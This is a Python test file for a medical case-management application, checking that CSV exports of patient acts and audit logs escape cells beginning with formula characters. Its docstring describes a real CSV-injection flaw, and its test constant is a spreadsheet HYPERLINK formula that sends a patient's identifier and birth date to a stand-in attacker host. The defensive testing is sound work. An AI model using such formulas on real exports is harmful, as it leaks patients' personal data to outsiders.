"""The CSV exports are opened in a spreadsheet (the billing secretary's, the quality officer's): a cell that
begins with ``=``, ``+``, ``-`` or ``@`` is read there as a formula, not as text.

Found from outside: a case file imported from another program with the file number
``=HYPERLINK("http://…/?"&E2&D2;"D-2291")`` was accepted, sent, and written as is in ``acts export``; opened
in a spreadsheet, the cell showed « D-2291 » and, clicked, sent the patient's INS and birth date to that
address. Each such cell is now written as text (a leading apostrophe, as spreadsheets themselves write
it), the other cells unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from app import acts, audit
from app.audit_export import export_csv as audit_csv
from app.db import transaction
from app.model import CaseState
from app.outbox import Outbox
from app.store import Store
from tests.sync.sync_helpers import make_case

FORMULA = '=HYPERLINK("http://evil.example/?"&E2&D2,"D-2291")'


def _sent(store: Store, local_id: str) -> str:
    case_id = make_case(store, local_id=local_id)
    store.transition(case_id, CaseState.SENDING)
    Outbox(store).mark_sent(case_id, f"t-{case_id}", f"s-{case_id}", "1")
    return case_id


def test_a_file_number_written_as_a_formula_is_exported_as_text(store: Store) -> None:
    store.settings.set("platform.url", "https://plateforme.example/fhir")
    store.settings.set("training", "off")
    formulas = {_sent(store, value): value for value in (FORMULA, "+33 6 12", "-12", "@SUM(1)", "\t=1+1")}
    plain = _sent(store, "D-2291")
    text, count = acts.export_csv(store, acts.utc_now().astimezone().year)
    assert count == len(formulas) + 1
    rows = {row["case_id"]: row for row in csv.DictReader(io.StringIO(text))}
    for case_id, value in formulas.items():
        assert rows[case_id]["patient_local_id"] == "'" + value, rows[case_id]
    assert rows[plain]["patient_local_id"] == "D-2291"
    assert rows[plain]["patient_birth_date"][0].isdigit() and rows[plain]["patient_family"] == "MARTIN"
    assert rows[plain]["date"][0].isdigit()


def test_an_audit_detail_written_as_a_formula_is_exported_as_text(store: Store, tmp_path: Path) -> None:
    with transaction(store.conn) as conn:
        audit.append(conn, store.key, "exported", None, detail=FORMULA)
        audit.append(conn, store.key, "exported", None, detail="pdf report")
    target = tmp_path / "audit.csv"
    audit_csv(store, target)
    lines = [line for line in target.read_text("utf-8-sig").splitlines() if not line.startswith("#")]
    details = [row["detail"] for row in csv.DictReader(io.StringIO("\n".join(lines)))]
    assert "'" + FORMULA in details and FORMULA not in details, details
    assert "pdf report" in details
